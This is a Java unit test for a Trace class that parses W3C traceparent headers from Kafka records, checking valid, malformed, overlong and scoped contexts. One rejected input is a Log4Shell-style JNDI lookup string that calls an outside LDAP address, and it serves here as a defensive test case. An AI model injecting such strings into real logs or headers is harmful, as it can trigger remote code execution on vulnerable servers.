package io.postern.log;

import static org.assertj.core.api.Assertions.assertThat;

import io.opentelemetry.api.trace.SpanKind;
import java.nio.charset.StandardCharsets;
import java.util.Optional;
import org.apache.kafka.common.header.internals.RecordHeaders;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class TraceTest {
  private static final String GOOD = "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01";

  private static Optional<String> read(byte[] value) {
    RecordHeaders headers = new RecordHeaders();
    headers.add(Headers.TRACE_PARENT, value);
    return Trace.of(headers);
  }

  @Test
  void aRecordsTraceContextIsRead() {
    assertThat(read(GOOD.getBytes(StandardCharsets.UTF_8))).contains(GOOD);
    assertThat(Trace.of(new RecordHeaders())).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "",
        "00",
        "00-00000000000000000000000000000000-00f067aa0ba902b7-01",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-0000000000000000-01",
        "00-4BF92F3577B34DA6A3CE929D0E0E4736-00f067aa0ba902b7-01",
        "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01-more",
        "ff-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        "00-4bf92f3577b34da6a3ce929d0e0e473\n-00f067aa0ba902b7-01",
        "${jndi:ldap://203.0.113.7/a}"
      })
  void whatIsNotWellFormedIsAsGoodAsNone(String bad) {
    assertThat(read(bad.getBytes(StandardCharsets.UTF_8))).isEmpty();
    assertThat(Trace.wellFormed(Optional.of(bad))).isEmpty();
  }

  @Test
  void whatIsLongIsNotLookedAt() {
    String later = "01" + GOOD.substring(2) + "-";
    assertThat(read((later + "x".repeat(Trace.LONGEST)).getBytes(StandardCharsets.UTF_8)))
        .isEmpty();
    // A later version may say more; what goes on is of the version that is known.
    assertThat(read((later + "x").getBytes(StandardCharsets.UTF_8))).contains(GOOD);
  }

  @Test
  void withoutAnSdkTheCauseGoesOnUnchanged() {
    try (Trace trace = Trace.begin("test", "step", SpanKind.CONSUMER, Optional.of(GOOD))) {
      assertThat(trace.context()).contains(GOOD);
    }
    try (Trace trace = Trace.begin("test", "step", SpanKind.CONSUMER, Optional.empty())) {
      assertThat(trace.context()).isEmpty();
    }
  }

  @Test
  void aStepIsWhereItsThreadIsUntilItLeaves() {
    try (Trace trace = Trace.begin("test", "step", SpanKind.CONSUMER, Optional.of(GOOD))) {
      try (Trace.Within within = trace.enter()) {
        assertThat(Trace.here()).contains(GOOD);
      }
    }
    assertThat(Trace.here()).isEmpty();
  }
}
